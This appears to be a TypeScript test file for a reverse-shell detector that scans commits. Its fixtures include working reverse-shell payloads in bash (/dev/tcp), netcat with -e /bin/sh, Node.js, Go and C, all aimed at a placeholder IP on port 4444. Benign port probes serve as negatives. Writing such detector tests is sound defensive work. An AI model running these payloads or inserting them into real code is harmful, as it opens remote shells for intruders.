import detector from "../../../../src/engine/detectors/content/reverse-shell.ts";
import { aCommit, aFile } from "../../../../src/engine/model/examples.ts";
import { strengthsOf } from "../run-detector.ts";

const DEVICE = ["/dev", "tcp"].join("/");
const change = (path: string, added: string) => aCommit({ files: [aFile({ path, added, at: 5 })] });

test.each([
  ["bash", "a.sh", `bash -i >& ${DEVICE}/198.51.100.7/4444 0>&1`, ["strong"]],
  ["netcat", "a.sh", "nc 198.51.100.7 4444 -e /bin/sh", ["strong"]],
  [
    "Node.js",
    "src/a.js",
    'const s = net.connect(4444, h);\nconst p = spawn("/bin/sh", []);\ns.pipe(p.stdin);',
    ["strong"],
  ],
  ["Go", "a.go", 'c, _ := net.Dial("tcp", h)\ncmd := exec.Command("/bin/sh")\ncmd.Stdin = c', ["strong"]],
  ["C", "a.c", 'socket(AF_INET, 1, 0);\ndup2(s, 0);\nexecl("/bin/sh", "sh", 0);', ["strong"]],
  ["a test", "test/a.sh", `bash -i >& ${DEVICE}/198.51.100.7/4444 0>&1`, ["medium"]],
  ["a probe of a port", "a.sh", `timeout 1 bash -c "</dev/null > ${DEVICE}/db/5432"`, []],
  ["netcat that listens to nothing", "a.sh", "nc -z db 5432", []],
  ["a comment", "a.sh", `# bash -i >& ${DEVICE}/198.51.100.7/4444`, []],
] as const)("%s", (_, path, added, expected) => {
  expect(strengthsOf(detector, change(path, added))).toEqual(expected);
});
